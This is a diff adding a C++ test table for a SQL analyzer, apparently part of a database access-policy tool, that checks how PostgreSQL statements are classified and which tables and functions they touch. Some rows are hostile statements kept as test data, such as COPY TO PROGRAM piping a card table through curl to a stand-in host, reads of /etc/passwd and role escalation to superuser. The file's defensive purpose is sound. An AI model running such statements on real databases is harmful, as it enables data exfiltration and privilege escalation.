@@ -1,0 +1,327 @@
+// Statement facts, one table row per statement kind: class, type, relations, functions, WHERE.
+#include <catch2/catch_test_macros.hpp>
+
+#include "policy/sql/analyzer.h"
+#include "sql_support.h"
+
+namespace tollgate::policy {
+namespace {
+
+using testing::Names;
+using C = StatementClass;
+
+struct Row {
+  const char* sql;
+  C cls;
+  const char* type;
+  Names reads;
+  Names writes;
+  Names functions;
+  bool has_where = true;
+};
+
+// One statement per row (facts of statements[0]; the row asserts there is exactly one).
+const std::vector<Row> kRows = {
+    // Reads.
+    {"SELECT * FROM cards WHERE id = 42", C::kRead, "select", {"cards"}, {}, {}},
+    {"select a.x, b.y from s.a join b on a.id = b.id", C::kRead, "select", {"s.a", "b"}, {}, {}},
+    {"SELECT count(*) FROM (SELECT * FROM cards) c", C::kRead, "select", {"cards"}, {}, {"count"}},
+    {"SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE EXISTS (SELECT 1 FROM v))",
+     C::kRead,
+     "select",
+     {"t", "u", "v"},
+     {},
+     {}},
+    {"SELECT 1 UNION SELECT x FROM a EXCEPT SELECT y FROM b",
+     C::kRead,
+     "select",
+     {"a", "b"},
+     {},
+     {}},
+    {"VALUES (1, 'a'), (2, 'b')", C::kRead, "select", {}, {}, {}},
+    {"TABLE cards", C::kRead, "select", {"cards"}, {}, {}},
+    {"SELECT * FROM generate_series(1, 10) g", C::kRead, "select", {}, {}, {"generate_series"}},
+    {"SELECT current_setting('work_mem')", C::kRead, "select", {}, {}, {"current_setting"}},
+    {"SELECT pg_sleep(1)", C::kRead, "select", {}, {}, {"pg_sleep"}},
+    {"WITH x AS (SELECT * FROM cards) SELECT * FROM x", C::kRead, "select", {"cards"}, {}, {}},
+    {"WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) "
+     "SELECT * FROM r",
+     C::kRead,
+     "select",
+     {},
+     {},
+     {}},
+    {"SHOW work_mem", C::kRead, "show", {}, {}, {}},
+    {"FETCH 10 FROM c", C::kRead, "fetch", {}, {}, {}},
+    {"MOVE NEXT IN c", C::kRead, "move", {}, {}, {}},
+    {"DECLARE c CURSOR FOR SELECT * FROM cards", C::kRead, "declare_cursor", {"cards"}, {}, {}},
+    {"EXPLAIN SELECT * FROM cards", C::kRead, "explain", {"cards"}, {}, {}},
+    {"EXPLAIN DELETE FROM cards", C::kRead, "explain", {"cards"}, {}, {}},
+    {"EXPLAIN (ANALYZE false) DELETE FROM cards", C::kRead, "explain", {"cards"}, {}, {}},
+    {"EXPLAIN (ANALYZE off, COSTS true) UPDATE t SET a = 1", C::kRead, "explain", {"t"}, {}, {}},
+    {"EXPLAIN (ANALYZE 0) DELETE FROM t", C::kRead, "explain", {"t"}, {}, {}},
+    {"COPY cards TO STDOUT", C::kRead, "copy", {"cards"}, {}, {}},
+    {"COPY (SELECT pan FROM cards) TO STDOUT WITH (FORMAT csv)",
+     C::kRead,
+     "copy",
+     {"cards"},
+     {},
+     {}},
+    {"PREPARE q(int) AS SELECT * FROM cards WHERE id = $1", C::kRead, "prepare", {"cards"}, {}, {}},
+    {"SELECT * FROM a WHERE x = (SELECT max(y) FROM b)",
+     C::kRead,
+     "select",
+     {"a", "b"},
+     {},
+     {"max"}},
+    // Writes.
+    {"INSERT INTO cards (id, pan) VALUES (1, '4111111111111111')",
+     C::kWrite,
+     "insert",
+     {},
+     {"cards"},
+     {}},
+    {"INSERT INTO archive SELECT * FROM cards", C::kWrite, "insert", {"cards"}, {"archive"}, {}},
+    {"INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = excluded.v RETURNING id",
+     C::kWrite,
+     "insert",
+     {},
+     {"t"},
+     {}},
+    {"UPDATE cards SET pan = 'x' WHERE id = 1", C::kWrite, "update", {}, {"cards"}, {}},
+    {"UPDATE cards SET pan = 'x'", C::kWrite, "update", {}, {"cards"}, {}, false},
+    {"UPDATE t SET a = u.a FROM u WHERE t.id = u.id", C::kWrite, "update", {"u"}, {"t"}, {}},
+    {"UPDATE t SET a = 1 WHERE CURRENT OF c", C::kWrite, "update", {}, {"t"}, {}},
+    {"DELETE FROM cards WHERE id = 7", C::kWrite, "delete", {}, {"cards"}, {}},
+    {"DELETE FROM cards", C::kWrite, "delete", {}, {"cards"}, {}, false},
+    {"DELETE FROM t USING u WHERE t.id = u.id", C::kWrite, "delete", {"u"}, {"t"}, {}},
+    {"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v "
+     "WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)",
+     C::kWrite,
+     "merge",
+     {"s"},
+     {"t"},
+     {}},
+    {"COPY cards FROM STDIN", C::kWrite, "copy", {}, {"cards"}, {}},
+    {"SELECT * FROM cards WHERE id = 1 FOR UPDATE", C::kWrite, "select", {"cards"}, {}, {}},
+    {"SELECT * FROM cards FOR SHARE SKIP LOCKED", C::kWrite, "select", {"cards"}, {}, {}},
+    {"SELECT * FROM (SELECT * FROM cards FOR UPDATE) s", C::kWrite, "select", {"cards"}, {}, {}},
+    {"WITH d AS (DELETE FROM cards RETURNING *) SELECT * FROM d",
+     C::kWrite,
+     "select",
+     {},
+     {"cards"},
+     {},
+     false},
+    {"WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) SELECT * FROM u",
+     C::kWrite,
+     "select",
+     {},
+     {"t"},
+     {}},
+    {"WITH i AS (INSERT INTO log VALUES (1) RETURNING id) INSERT INTO t SELECT id FROM i",
+     C::kWrite,
+     "insert",
+     {},
+     {"log", "t"},
+     {}},
+    {"EXPLAIN ANALYZE DELETE FROM cards", C::kWrite, "explain", {}, {"cards"}, {}, false},
+    {"EXPLAIN (ANALYZE, FORMAT json) UPDATE t SET a = 1 WHERE id = 1",
+     C::kWrite,
+     "explain",
+     {},
+     {"t"},
+     {}},
+    {"EXPLAIN (ANALYZE 'on') DELETE FROM t WHERE x = 1", C::kWrite, "explain", {}, {"t"}, {}},
+    {"EXPLAIN (ANALYZE 1) DELETE FROM t WHERE x = 1", C::kWrite, "explain", {}, {"t"}, {}},
+    {"PREPARE d AS DELETE FROM cards WHERE id = $1", C::kWrite, "prepare", {}, {"cards"}, {}},
+    {"CALL do_things(1)", C::kWrite, "call", {}, {}, {"do_things"}},
+    {"LOCK TABLE cards IN ACCESS EXCLUSIVE MODE", C::kWrite, "lock", {}, {"cards"}, {}},
+    {"SELECT nextval('s')", C::kWrite, "select", {}, {}, {"nextval"}},
+    {"COPY (DELETE FROM t RETURNING *) TO STDOUT", C::kWrite, "copy", {}, {"t"}, {}, false},
+    // DDL.
+    {"CREATE TABLE t (id int PRIMARY KEY, pan text)", C::kDdl, "create_table", {}, {"t"}, {}},
+    {"CREATE TABLE s.t2 AS SELECT * FROM cards",
+     C::kDdl,
+     "create_table_as",
+     {"cards"},
+     {"s.t2"},
+     {}},
+    {"CREATE MATERIALIZED VIEW mv AS SELECT * FROM cards",
+     C::kDdl,
+     "create_materialized_view",
+     {"cards"},
+     {"mv"},
+     {}},
+    {"SELECT * INTO newtable FROM cards", C::kDdl, "select_into", {"cards"}, {"newtable"}, {}},
+    {"CREATE VIEW v AS SELECT pan FROM cards", C::kDdl, "create_view", {"cards"}, {"v"}, {}},
+    {"CREATE INDEX i ON cards (pan)", C::kDdl, "create_index", {}, {"cards"}, {}},
+    {"ALTER TABLE cards ADD COLUMN note text", C::kDdl, "alter_table", {}, {"cards"}, {}},
+    {"DROP TABLE a, s.b", C::kDdl, "drop", {}, {"a", "s.b"}, {}},
+    {"DROP FUNCTION f(int)", C::kDdl, "drop", {}, {}, {}},
+    {"TRUNCATE cards", C::kDdl, "truncate", {}, {"cards"}, {}},
+    {"GRANT SELECT ON cards TO bob", C::kDdl, "grant", {}, {"cards"}, {}},
+    {"REVOKE ALL ON cards FROM bob", C::kDdl, "revoke", {}, {"cards"}, {}},
+    {"COMMENT ON TABLE cards IS 'card data'", C::kDdl, "comment", {}, {}, {}},
+    {"ALTER TABLE cards RENAME TO cards_old", C::kDdl, "rename", {}, {"cards"}, {}},
+    {"CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
+     C::kDdl,
+     "create_function",
+     {},
+     {},
+     {}},
+    {"CREATE SCHEMA s", C::kDdl, "create_schema", {}, {}, {}},
+    {"CREATE SEQUENCE seq START 4111111111111111", C::kDdl, "create_sequence", {}, {"seq"}, {}},
+    {"REFRESH MATERIALIZED VIEW mv", C::kDdl, "refresh_materialized_view", {}, {"mv"}, {}},
+    // Admin.
+    {"SELECT pg_read_file('/etc/passwd')", C::kAdmin, "select", {}, {}, {"pg_read_file"}},
+    {"SELECT pg_catalog.pg_read_file('/etc/passwd')",
+     C::kAdmin,
+     "select",
+     {},
+     {},
+     {"pg_catalog.pg_read_file"}},
+    {"SELECT * FROM cards WHERE pg_terminate_backend(42)",
+     C::kAdmin,
+     "select",
+     {"cards"},
+     {},
+     {"pg_terminate_backend"}},
+    {"SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
+     C::kAdmin,
+     "select",
+     {},
+     {},
+     {"dblink"}},
+    {"SELECT dblink_exec('host=x', 'drop table t')", C::kAdmin, "select", {}, {}, {"dblink_exec"}},
+    {"SELECT set_config('role', 'admin', false)", C::kAdmin, "select", {}, {}, {"set_config"}},
+    {"SELECT query_to_xml('delete from cards', true, true, '')",
+     C::kAdmin,
+     "select",
+     {},
+     {},
+     {"query_to_xml"}},
+    {"SELECT lo_import('/etc/passwd')", C::kAdmin, "select", {}, {}, {"lo_import"}},
+    {"SELECT pg_reload_conf()", C::kAdmin, "select", {}, {}, {"pg_reload_conf"}},
+    {"EXPLAIN SELECT pg_read_file('x')", C::kAdmin, "explain", {}, {}, {"pg_read_file"}},
+    {"INSERT INTO t VALUES (pg_read_file('x'))", C::kAdmin, "insert", {}, {"t"}, {"pg_read_file"}},
+    {"COPY cards TO PROGRAM 'curl -d @- evil'", C::kAdmin, "copy", {"cards"}, {}, {}},
+    {"COPY cards FROM PROGRAM 'cat /etc/passwd'", C::kAdmin, "copy", {}, {"cards"}, {}},
+    {"COPY cards TO '/tmp/cards.csv'", C::kAdmin, "copy", {"cards"}, {}, {}},
+    {"COPY cards FROM '/tmp/cards.csv'", C::kAdmin, "copy", {}, {"cards"}, {}},
+    {"DO $$BEGIN DELETE FROM cards; END$$", C::kAdmin, "do", {}, {"cards"}, {}, false},
+    {"DO LANGUAGE plpgsql $x$ BEGIN PERFORM pg_sleep(1); "
+     "UPDATE t SET a = 1 WHERE id = 2; END $x$",
+     C::kAdmin,
+     "do",
+     {},
+     {"t"},
+     {"pg_sleep"}},
+    {"DO $$DECLARE n int; BEGIN n := (SELECT count(*) FROM cards); END$$",
+     C::kAdmin,
+     "do",
+     {"cards"},
+     {},
+     {"count"}},
+    {"DO LANGUAGE plpython3u 'import os'", C::kAdmin, "do", {}, {}, {}},
+    {"SET ROLE admin", C::kAdmin, "set", {}, {}, {}},
+    {"SET SESSION AUTHORIZATION bob", C::kAdmin, "set", {}, {}, {}},
+    {"SET LOCAL ROLE admin", C::kAdmin, "set", {}, {}, {}},
+    {"SET standard_conforming_strings = off", C::kAdmin, "set", {}, {}, {}},
+    {"ALTER SYSTEM SET work_mem = '1GB'", C::kAdmin, "alter_system", {}, {}, {}},
+    {"CREATE ROLE r LOGIN PASSWORD 'secret'", C::kAdmin, "create_role", {}, {}, {}},
+    {"ALTER ROLE bob SUPERUSER", C::kAdmin, "alter_role", {}, {}, {}},
+    {"GRANT admin TO bob", C::kAdmin, "grant_role", {}, {}, {}},
+    {"VACUUM ANALYZE cards", C::kAdmin, "vacuum", {}, {"cards"}, {}},
+    {"ANALYZE cards", C::kAdmin, "analyze", {}, {"cards"}, {}},
+    {"CLUSTER cards USING i", C::kAdmin, "cluster", {}, {"cards"}, {}},
+    {"REINDEX TABLE cards", C::kAdmin, "reindex", {}, {"cards"}, {}},
+    {"CHECKPOINT", C::kAdmin, "checkpoint", {}, {}, {}},
+    {"CREATE EXTENSION dblink", C::kAdmin, "create_extension", {}, {}, {}},
+    {"LOAD 'auto_explain'", C::kAdmin, "load", {}, {}, {}},
+    {"CREATE DATABASE d", C::kAdmin, "create_database", {}, {}, {}},
+    {"PREPARE TRANSACTION 'gid1'", C::kAdmin, "prepare_transaction", {}, {}, {}},
+    {"COMMIT PREPARED 'gid1'", C::kAdmin, "commit_prepared", {}, {}, {}},
+    {"PREPARE p AS SELECT pg_ls_dir('.')", C::kAdmin, "prepare", {}, {}, {"pg_ls_dir"}},
+    // Transaction.
+    {"BEGIN", C::kTransaction, "begin", {}, {}, {}},
+    {"START TRANSACTION ISOLATION LEVEL SERIALIZABLE", C::kTransaction, "begin", {}, {}, {}},
+    {"COMMIT", C::kTransaction, "commit", {}, {}, {}},
+    {"END", C::kTransaction, "commit", {}, {}, {}},
+    {"ROLLBACK", C::kTransaction, "rollback", {}, {}, {}},
+    {"ABORT", C::kTransaction, "rollback", {}, {}, {}},
+    {"SAVEPOINT sp", C::kTransaction, "savepoint", {}, {}, {}},
+    {"RELEASE SAVEPOINT sp", C::kTransaction, "release", {}, {}, {}},
+    {"ROLLBACK TO SAVEPOINT sp", C::kTransaction, "rollback_to", {}, {}, {}},
+    {"SET TRANSACTION ISOLATION LEVEL REPEATABLE READ",
+     C::kTransaction,
+     "set_transaction",
+     {},
+     {},
+     {}},
+    {"SET CONSTRAINTS ALL DEFERRED", C::kTransaction, "set_constraints", {}, {}, {}},
+    // Other.
+    {"SET search_path TO app, public", C::kOther, "set", {}, {}, {}},
+    {"SET standard_conforming_strings = on", C::kOther, "set", {}, {}, {}},
+    {"RESET ALL", C::kOther, "reset", {}, {}, {}},
+    {"RESET ROLE", C::kOther, "reset", {}, {}, {}},
+    {"DISCARD ALL", C::kOther, "discard", {}, {}, {}},
+    {"LISTEN ch", C::kOther, "listen", {}, {}, {}},
+    {"UNLISTEN *", C::kOther, "unlisten", {}, {}, {}},
+    {"NOTIFY ch, 'payload'", C::kOther, "notify", {}, {}, {}},
+    {"EXECUTE q(1)", C::kOther, "execute", {}, {}, {}},
+    {"DEALLOCATE q", C::kOther, "deallocate", {}, {}, {}},
+    {"CLOSE c", C::kOther, "close", {}, {}, {}},
+};
+
+TEST_CASE("statement facts table", "[sql]") {
+  for (const Row& row : kRows) {
+    INFO(row.sql);
+    QueryFactsPtr q = SqlAnalyzer::analyzeUncached(row.sql);
+    INFO(testing::dump(*q));
+    REQUIRE(q->parsed);
+    REQUIRE(q->statements.size() == 1);
+    const StatementFacts& f = q->statements[0];
+    CHECK(className(f.cls) == className(row.cls));
+    CHECK(f.type == row.type);
+    CHECK(f.reads == row.reads);
+    CHECK(f.writes == row.writes);
+    CHECK(f.functions == row.functions);
+    CHECK(f.has_where == row.has_where);
+    CHECK(f.fingerprint.size() == 16);
+  }
+}
+
+TEST_CASE("nested statement types are reported", "[sql]") {
+  struct Case {
+    const char* sql;
+    Names inner;
+  };
+  const Case cases[] = {
+      {"WITH d AS (DELETE FROM cards RETURNING *) SELECT * FROM d", {"delete"}},
+      {"EXPLAIN ANALYZE UPDATE t SET a = 1", {"update"}},
+      {"PREPARE p AS INSERT INTO t VALUES ($1)", {"insert"}},
+      {"DO $$BEGIN TRUNCATE t; DELETE FROM u WHERE id = 1; END$$", {"truncate", "delete"}},
+      {"SELECT * FROM t", {}},
+  };
+  for (const Case& c : cases) {
+    INFO(c.sql);
+    QueryFactsPtr q = SqlAnalyzer::analyzeUncached(c.sql);
+    REQUIRE(q->statements.size() == 1);
+    CHECK(q->statements[0].inner_types == c.inner);
+  }
+}
+
+TEST_CASE("class names round-trip", "[sql]") {
+  for (C c : {C::kRead, C::kWrite, C::kDdl, C::kAdmin, C::kTransaction, C::kOther}) {
+    C parsed = C::kOther;
+    REQUIRE(parseClass(className(c), &parsed));
+    CHECK(parsed == c);
+  }
+  C unused = C::kRead;
+  CHECK_FALSE(parseClass("READ", &unused));
+  CHECK_FALSE(parseClass("", &unused));
+}
+
+}  // namespace
+}  // namespace tollgate::policy
